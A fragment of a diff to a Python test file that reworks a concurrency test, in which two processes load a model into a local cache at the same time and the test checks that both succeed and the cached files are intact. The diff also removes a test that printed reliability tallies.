-    children = [spawn(LOAD_CHILD, env=env) for _ in range(2)]
-    outs = [child.communicate(timeout=300) for child in children]
-    assert [c.returncode for c in children] == [0, 0], [o[1][-1500:] for o in outs]
-    assert all("loaded" in o[0] for o in outs)
+def test_two_loads_filling_the_cache_at_once_both_succeed(store, home, tmp_path):
+    env = {"RECTIFIER_ZOO_HOME": str(home), remote.URL_ENV: store.as_uri()}
+    met = tmp_path / "met"
+    met.mkdir()
+    outs = run_together([spawn(LOAD_CHILD, f"meet:2:{met}", env=env) for _ in range(2)])
+    assert all("paused before rename to 2\n" in out and "loaded" in out for out in outs)  # both at one rename
     assert assert_every_version_whole(home / "models" / NAME) == [2]
     assert snapshot(home / "models" / NAME / "2") == snapshot(store / NAME / "2")
     assert not [p for p in (home / "models" / NAME).iterdir() if p.name.startswith(".")]
-    tally("concurrent", 2)
-
-
-# ====================================================================== the figures
-
-
-def test_zz_print_the_tally(tally_path):
-    counts = json.loads(tally_path.read_text()) if tally_path.exists() else {}
-    counts["mode"] = "long" if LONG else "fast"
-    print(f"\nreliability tally ({tally_path}): {json.dumps(counts, sort_keys=True)}")
-    assert counts.get("inputs", 0) > 0 or os.environ.get("PYTEST_XDIST_WORKER")
